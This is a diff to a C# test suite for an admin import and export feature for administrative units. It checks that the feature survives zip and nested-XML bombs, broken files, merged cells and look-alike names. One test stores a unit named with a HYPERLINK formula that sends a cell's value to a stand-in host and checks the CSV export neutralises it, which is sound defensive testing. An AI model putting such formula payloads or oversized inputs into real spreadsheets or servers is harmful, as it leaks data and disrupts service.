@@ -30,7 +30,7 @@ public sealed class UnitExchangeTests : IAsyncLifetime
     [Fact]
     public async Task A_table_becomes_a_tree_whatever_the_order_of_its_rows()
     {
-        var table = Csv("02,UBND xã Ea Kao,01,,01/07/2025,", "01,UBND tỉnh Đắk Lắk,,,,", ",Phòng Văn hóa,UBND tỉnh Đắk Lắk / UBND xã Ea Kao,Cơ quan,,", ",Cụm 1,ubnd tinh dak lak,Cụm,,");
+        var table = Csv("02,UBND xã Ea Kao,01,,01/07/2025,", "01,UBND tỉnh Đắk Lắk,,,,", ",Phòng Văn hóa,UBND tỉnh Đắk Lắk / UBND xã Ea Kao,Cơ quan,,", ",Cụm 1,UBND TỈNH ĐẮK LẮK,Cụm,,");
         var preview = await Import(table);
         Assert.Equal((4, 0, 0, false), (Number(preview, "added"), Number(preview, "changed"), Number(preview, "wrong"), (bool)preview["applied"]!));
         Assert.Empty(await Names());
@@ -78,7 +78,7 @@ public sealed class UnitExchangeTests : IAsyncLifetime
                 "10 Hiệu lực đến: Ngày kết thúc trước ngày bắt đầu",
                 "11 Loại: Không hiểu loại đơn vị; dùng một trong các từ của tệp mẫu",
                 "12 Đơn vị cấp trên: Có nhiều đơn vị tên “Văn phòng”; dùng mã, hoặc viết đủ các cấp, cách nhau bằng dấu /",
-                "13 Tên đơn vị: Không được bắt đầu bằng = + - @ và không được có ký tự điều khiển",
+                "13 Tên đơn vị: Không được bắt đầu bằng = + - @",
             ],
             Errors(preview));
         Assert.DoesNotContain("Tốt", string.Join('\n', await Names()), StringComparison.Ordinal);
@@ -142,9 +142,115 @@ public sealed class UnitExchangeTests : IAsyncLifetime
     [Fact]
     public async Task A_file_that_unpacks_to_a_hundred_times_its_size_is_not_unpacked()
     {
-        var bomb = Zip(("xl/worksheets/sheet1.xml", new byte[200 * 1024 * 1024]));
+        var bomb = SheetFile.Of(new string(' ', 200 * 1024 * 1024));
         Assert.InRange(bomb.Length, 0, TableFile.LargestFile);
         Assert.Equal("table_too_large", (await Import(bomb)).Code);
+    }
+
+    [Fact]
+    public async Task A_small_file_of_nested_elements_is_refused_and_the_server_goes_on()
+    {
+        var nested = string.Concat(Enumerable.Repeat("<is>", 200_000)) + string.Concat(Enumerable.Repeat("</is>", 200_000));
+        Assert.Equal("table_too_large", (await Import(SheetFile.Of($"""<row r="1"><c r="A1" t="inlineStr">{nested}</c></row>"""))).Code);
+        Assert.Equal("table_unreadable", (await Import([0x50, 0x4b, 3, 4, 1, 2, 3])).Code);
+    }
+
+    [Fact]
+    public async Task A_parent_merged_over_its_communes_is_the_parent_of_each()
+    {
+        var table = SheetFile.Of(
+            SheetFile.Row(1, "UBND TỈNH\nVĂN PHÒNG") + SheetFile.Row(2, "DANH SÁCH ĐƠN VỊ TRỰC THUỘC")
+            + SheetFile.Row(4, "STT", "Tên\nđơn vị (*)", "Đơn vị cấp trên", "Hiệu lực") + SheetFile.Row(5, null, null, null, "từ", "đến")
+            + SheetFile.Row(6, "(1)", "(2)", "(3)", "(4)", "(5)")
+            + SheetFile.Row(7, "1", "UBND huyện Gộp") + SheetFile.Row(8, "2", "UBND xã Một", "UBND huyện Gộp") + SheetFile.Row(9, "3", "UBND xã Hai")
+            + SheetFile.Row(10, "4", "UBND xã Ba"),
+            after: """<mergeCells><mergeCell ref="A2:E2"/><mergeCell ref="A4:A5"/><mergeCell ref="B4:B5"/><mergeCell ref="C4:C5"/><mergeCell ref="D4:E4"/><mergeCell ref="C8:C10"/></mergeCells>""");
+        var applied = await Import(table, apply: true);
+        Assert.Equal(
+            ["UBND huyện Gộp 1 Authority", "UBND huyện Gộp/UBND xã Ba 2 Authority", "UBND huyện Gộp/UBND xã Hai 2 Authority", "UBND huyện Gộp/UBND xã Một 2 Authority"],
+            await Names());
+        Assert.Equal(["Tiêu đề các cột ở dòng 5.", "Không dùng các cột: “STT”."], applied["notes"].AsArray().Select(note => (string)note!));
+        Assert.Contains("9 Đơn vị cấp trên: lấy từ ô gộp", Said(applied, "guesses"));
+    }
+
+    [Fact]
+    public async Task A_row_that_is_one_cell_over_all_columns_is_no_unit()
+    {
+        var table = SheetFile.Of(
+            SheetFile.Row(1, "Mã", "Tên đơn vị", "Đơn vị cấp trên") + SheetFile.Row(2, "I. Các huyện") + SheetFile.Row(3, "1", "UBND huyện"),
+            after: """<mergeCells><mergeCell ref="A2:C2"/></mergeCells>""");
+        Assert.Contains("2 Tên đơn vị: Ô gộp qua nhiều cột (“I. Các huyện”); hãy bỏ gộp ô", Errors(await Import(table, apply: true)));
+    }
+
+    [Fact]
+    public async Task Names_that_differ_by_a_mark_are_two_units_and_the_import_asks()
+    {
+        var district = await _installation.Unit("UBND huyện Thanh");
+        await _installation.Unit("Xã Văn Hòa", district);
+        var table = Csv(",Xã Vân Hòa,UBND huyện Thanh,,,");
+
+        var asked = await Import(table, apply: true);
+        Assert.False((bool)asked["applied"]!);
+        Assert.Equal(1, Number(asked, "asked"));
+        var question = asked["rows"][0]!["questions"]![0]!;
+        Assert.Equal(("unit", "Xã Vân Hòa", "UBND huyện Thanh / Xã Văn Hòa"), ((string?)question["kind"], (string?)question["written"], (string?)question["known"]));
+
+        Assert.Equal(1, Number(await Import(table, apply: true, answers: "&newUnits=2"), "added"));
+        Assert.Equal(["UBND huyện Thanh 1 Authority", "UBND huyện Thanh/Xã Vân Hòa 1 Office", "UBND huyện Thanh/Xã Văn Hòa 2 Authority"], await Names());
+
+        // Both are there now: each is found by its own name, and both in one file are two.
+        Assert.Equal((2, 0), (Number(await Import(Csv(",Xã Văn Hòa,UBND huyện Thanh,,,", ",Xã Vân Hòa,UBND huyện Thanh,,,")), "same"), 0));
+        Assert.Equal(2, Number(await Import(Csv(",Thôn Tân Tiến,UBND huyện Thanh,,,", ",Thôn Tân Tiên,UBND huyện Thanh,,,"), apply: true), "added"));
+        Assert.Equal(HttpStatusCode.Created, (await _administrator.Post("/api/admin/units", new { name = "Thôn Lạp", parentId = district })).Status);
+        Assert.Equal(HttpStatusCode.Created, (await _administrator.Post("/api/admin/units", new { name = "Thôn Lập", parentId = district })).Status);
+        Assert.Equal("unit_name_taken", (await _administrator.Post("/api/admin/units", new { name = "thôn LẬP", parentId = district })).Code);
+    }
+
+    [Fact]
+    public async Task Who_says_that_it_is_the_same_unit_renames_it_and_a_parent_written_without_accents_is_asked_for_once()
+    {
+        var district = await _installation.Unit("UBND huyện Thanh");
+        await _installation.Unit("Xã Văn Hoà", district);
+        var table = Csv(",Xã Văn Hòa,ubnd huyen thanh,,,", ",Xã Mới,ubnd huyen thanh,,,");
+        Assert.Equal(2, Number(await Import(table, apply: true), "asked"));
+        Assert.Equal(1, Number(await Import(table, apply: true, answers: "&sameParents=3"), "asked"));
+        var applied = await Import(table, apply: true, answers: "&sameParents=3&sameUnits=2");
+        Assert.Equal((1, 1, true), (Number(applied, "added"), Number(applied, "changed"), (bool)applied["applied"]!));
+    }
+
+    [Fact]
+    public async Task Semicolons_part_columns_though_every_line_has_a_comma()
+    {
+        var table = Encoding.UTF8.GetBytes("Mã;Tên đơn vị;Đơn vị cấp trên;Ghi chú, khác\n;UBND xã A, huyện B;;a, b\n;UBND xã C, huyện D;;c, d\n");
+        Assert.Equal(2, Number(await Import(table, apply: true), "added"));
+    }
+
+    [Fact]
+    public async Task Cells_in_error_are_refused_and_names_that_look_alike_are_one()
+    {
+        var broken = SheetFile.Of(SheetFile.Row(1, "Tên đơn vị") + """<row r="2"><c r="A2" t="e"><v>#REF!</v></c></row>""");
+        Assert.Equal(["2 Tên đơn vị: Ô báo lỗi #REF!; hãy sửa công thức trong bảng tính"], Errors(await Import(broken, apply: true)));
+        var alike = SheetFile.Of(SheetFile.Row(1, "Tên đơn vị\u00a0") + SheetFile.Row(2, "UBND huyện Cách") + SheetFile.Row(3, "UBND\u00a0huyện Cách") + SheetFile.Row(4, "UBND huyện Cách\u200b"));
+        Assert.Equal(["3 Tên đơn vị: Trùng với dòng 2", "4 Tên đơn vị: Trùng với dòng 2"], Errors(await Import(alike, apply: true)));
+    }
+
+    [Theory]
+    [InlineData("csv")]
+    [InlineData("xlsx")]
+    public async Task One_name_that_no_file_can_hold_stops_nobodys_export(string format)
+    {
+        await _installation.Unit("UBND xã \uffffHỏng\u000b");
+        await _installation.Unit("UBND xã Lành");
+        var read = await Import(await Export(format));
+        Assert.Contains(read["rows"].AsArray(), row => (string?)row!["name"] == "UBND xã Lành" && row["errors"]!.AsArray().Count == 0);
+    }
+
+    [Fact]
+    public async Task A_formula_for_a_name_leaves_as_a_text_and_its_unit_can_still_be_given_a_code()
+    {
+        var unit = await _installation.Unit("=HYPERLINK(\"http://xau.example/?\"&A1)");
+        Assert.Contains("\"'=HYPERLINK", Encoding.UTF8.GetString(await Export("csv")), StringComparison.Ordinal);
+        Assert.Equal(HttpStatusCode.OK, (await _administrator.Patch($"/api/admin/units/{unit}", new { code = "0241" })).Status);
     }
 
     [Fact]
@@ -181,9 +287,9 @@ public sealed class UnitExchangeTests : IAsyncLifetime
         return file.ToArray();
     }
 
-    private async Task<Answer> Import(byte[] file, bool apply = false, Browser? browser = null)
+    private async Task<Answer> Import(byte[] file, bool apply = false, Browser? browser = null, string answers = "")
     {
-        using var request = new HttpRequestMessage(HttpMethod.Post, new Uri(Browser.Origin, $"/api/admin/units/import?apply={apply}"))
+        using var request = new HttpRequestMessage(HttpMethod.Post, new Uri(Browser.Origin, $"/api/admin/units/import?apply={apply}{answers}"))
         {
             Content = new ByteArrayContent(file) { Headers = { ContentType = new("application/octet-stream") } },
         };
@@ -201,8 +307,10 @@ public sealed class UnitExchangeTests : IAsyncLifetime
 
     private static int Number(Answer answer, string name) => (int)answer[name]!;
 
-    private static IEnumerable<string> Errors(Answer preview) => preview["rows"].AsArray()
-        .SelectMany(row => row!["errors"]!.AsArray().Select(error => $"{row["row"]} {error}"));
+    private static IEnumerable<string> Errors(Answer preview) => Said(preview, "errors");
+
+    private static IEnumerable<string> Said(Answer preview, string what) => preview["rows"].AsArray()
+        .SelectMany(row => row![what]!.AsArray().Select(said => $"{row["row"]} {said}"));
 
     private Task<List<string>> Names() => Names(_installation);
 
